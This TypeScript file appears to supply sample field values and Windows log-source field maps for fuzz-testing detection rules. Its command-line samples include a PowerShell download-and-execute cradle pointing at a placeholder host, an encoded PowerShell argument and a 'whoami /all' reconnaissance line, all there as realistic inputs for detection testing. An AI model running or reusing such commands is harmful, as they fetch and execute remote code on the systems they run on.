/** Values that a field has in real events: what a rule's values are made of, so that some of them are found. */
const ORDINARY = {
  path: [
    'C:\\Windows\\System32\\cmd.exe',
    'C:\\Users\\alice\\AppData\\Local\\Temp\\a b.ps1',
    '\\powershell.exe',
    '\\\\server\\share\\tool.exe',
    '\\Device\\HarddiskVolume3\\x.sys',
    'System',
  ],
  text: [
    'cmd.exe /c whoami /all',
    '"C:\\Program Files\\x.exe" -enc SQBFAFgA',
    'IEX (New-Object Net.WebClient).DownloadString("http://x/y")',
    "-Command 'a'; $b = {c}",
    '<a href="x">&</a>',
  ],
  account: ['NT AUTHORITY\\SYSTEM', 'CONTOSO\\alice', 'AUTHORI', 'SYSTEM', '\\svc$'],
  name: ['alice', 'SYSTEM', 'DC01$', 'ANONYMOUS LOGON'],
  number: ['0', '5', '445', '4688', '65535', '7'],
  hexNumber: ['0x0', '0x3e7', '0x1fffff', '0x1410'],
  address: ['10.1.2.3', '127.0.0.1', '::1', 'fe80::1', '203.0.113.9', '-'],
  network: ['10.0.0.0/8', '192.168.0.0/16', '127.0.0.1/32', '::1/128', 'fe80::/10', '0.0.0.0/0', '10.0.0.1/8', '::ffff:10.0.0.0/104'],
  host: ['update.vendor.example', '.onion', 'raw.githubusercontent.com', 'pc7'],
  digests: [
    'MD5=098F6BCD4621D373CADE4E832627B4F6',
    'SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08',
    'IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744',
  ],
  key: [
    'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x',
    '\\CurrentVersion\\Run',
    'HKU\\S-1-5-21-1-2-3-1001\\Environment\\Path',
    'HKLM\\System\\CurrentControlSet\\Services\\x\\Start',
    '\\(Default)',
    'HKCR\\.txt\\(Default)',
  ],
  data: ['DWORD (0x00000001)', 'DWORD (0x00000000)', 'C:\\Windows\\x.dll', 'Binary Data', '(Empty)', 'QWORD (0x00000000-0x00000001)'],
  truth: ['true', 'false'],
  level: ['High', 'System', 'Medium', 'Low', 'S-1-16-12288'],
  protocol: ['tcp', 'udp'],
  registryEvent: ['SetValue', 'CreateKey', 'DeleteKey', 'DeleteValue', 'RenameKey'],
  logonType: ['2', '3', '9', '10'],
} as const satisfies Readonly<Record<string, readonly string[]>>;

export type FieldKind = keyof typeof ORDINARY;

export const ordinaryValues = (kind: FieldKind): readonly string[] => ORDINARY[kind];

export interface FuzzedLogSource {
  /** Under `logsource:`, without `product: windows`. */
  readonly named: string;
  readonly fields: Readonly<Record<string, FieldKind>>;
}

const ACTOR = { Image: 'path', User: 'account', ProcessId: 'number' } as const;

/** Log sources that are served by tables of every kind, with fields that they have. */
export const LOG_SOURCES: readonly FuzzedLogSource[] = [
  {
    named: 'category: process_creation',
    fields: {
      ...ACTOR,
      CommandLine: 'text',
      ParentImage: 'path',
      ParentCommandLine: 'text',
      CurrentDirectory: 'path',
      OriginalFileName: 'name',
      Description: 'text',
      Company: 'text',
      FileVersion: 'text',
      Hashes: 'digests',
      IntegrityLevel: 'level',
      LogonId: 'hexNumber',
      ParentProcessId: 'number',
      ParentUser: 'account',
    },
  },
  {
    named: 'category: network_connection',
    fields: {
      ...ACTOR,
      Initiated: 'truth',
      Protocol: 'protocol',
      SourceIp: 'address',
      SourcePort: 'number',
      SourceHostname: 'host',
      DestinationIp: 'address',
      DestinationPort: 'number',
      DestinationHostname: 'host',
      DestinationIsIpv6: 'truth',
    },
  },
  { named: 'category: registry_set', fields: { ...ACTOR, TargetObject: 'key', Details: 'data', EventType: 'registryEvent' } },
  { named: 'category: registry_event', fields: { ...ACTOR, TargetObject: 'key', Details: 'data', EventType: 'registryEvent' } },
  { named: 'category: registry_delete', fields: { ...ACTOR, TargetObject: 'key', EventType: 'registryEvent' } },
  { named: 'category: file_event', fields: { ...ACTOR, TargetFilename: 'path' } },
  { named: 'category: dns_query', fields: { ...ACTOR, QueryName: 'host', QueryResults: 'address', QueryStatus: 'number' } },
  {
    named: 'category: image_load',
    fields: { ...ACTOR, ImageLoaded: 'path', Hashes: 'digests', Signed: 'truth', OriginalFileName: 'name' },
  },
  { named: 'category: ps_script', fields: { ScriptBlockText: 'text', Path: 'path' } },
  {
    named: 'service: security',
    fields: {
      EventID: 'number',
      SubjectUserName: 'name',
      SubjectDomainName: 'name',
      TargetUserName: 'name',
      LogonType: 'logonType',
      IpAddress: 'address',
      WorkstationName: 'host',
      ObjectName: 'path',
      ProcessName: 'path',
      AccessMask: 'hexNumber',
      Status: 'hexNumber',
      AttributeLDAPDisplayName: 'name',
    },
  },
  {
    named: 'service: system',
    fields: { EventID: 'number', Provider_Name: 'name', ServiceName: 'name', ImagePath: 'path', StartType: 'text' },
  },
];
